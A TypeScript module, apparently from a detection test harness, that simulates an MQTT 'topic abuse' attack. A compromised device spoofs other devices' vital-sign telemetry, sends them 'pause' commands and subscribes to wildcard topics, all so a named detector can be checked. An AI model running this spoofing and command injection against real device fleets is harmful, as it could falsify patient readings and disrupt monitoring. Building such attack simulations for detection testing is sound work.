import { commandTopic, uplinkTopic } from '../../contracts/mqtt-topics.ts'
import { type Attack, perpetrate, victimOf } from './attack.ts'

const foreignSubscriptions = ['#', 'v1/+/+/telemetry', '$SYS/#'] as const

/** Malware on a device publishes in other devices' names and listens to everything, through the device's own connection. MITRE ATT&CK ICS T0855. */
export const topicAbuse: Attack = {
  id: 'topic-abuse',
  expectedDetector: 'topic-abuse',
  fromOutside: false,
  async run(context, target) {
    const device = victimOf(context, target, 'topic-abuse')
    if (device === null) return
    const { scheduler, signal } = context
    const others = context.fleet.devices.filter(({ device: id }) => target.others.includes(id))
    const what = `${device.spec.device} publishes under ${others.length} other devices' topics and subscribes to wildcards`
    const publish = async (topic: string, payload: Buffer): Promise<void> => {
      const connection = await Promise.race([device.connected(), scheduler.sleep(5_000, signal).then(() => null)])
      // Answered or not: a broker may acknowledge, stay silent or hang up.
      await Promise.race([
        new Promise<void>((resolve) => connection?.publish(topic, payload, false, () => resolve()) ?? resolve()),
        scheduler.sleep(1_000, signal),
      ])
    }
    await perpetrate(context, target, { attack: topicAbuse, what, subjects: [device.spec.device] }, async () => {
      const pauseMs = target.durationMs / (2 * others.length + foreignSubscriptions.length)
      for (const other of others) {
        if (signal.aborted) return
        const lie = Buffer.from(JSON.stringify({ ts: scheduler.now(), seq: 1, vitals: { hr: 72, spo2: 98 } }))
        await publish(uplinkTopic(other.site, other.device, 'telemetry'), lie)
        await scheduler.sleep(pauseMs, signal)
        await publish(commandTopic(other.site, other.device), Buffer.from('{"id":"x","action":"pause"}'))
        await scheduler.sleep(pauseMs, signal)
      }
      for (const filter of foreignSubscriptions) {
        if (signal.aborted) return
        const connection = await Promise.race([device.connected(), scheduler.sleep(5_000, signal).then(() => null)])
        await Promise.race([connection?.subscribe(filter), scheduler.sleep(1_000, signal)])
        await scheduler.sleep(pauseMs, signal)
      }
    })
  },
}
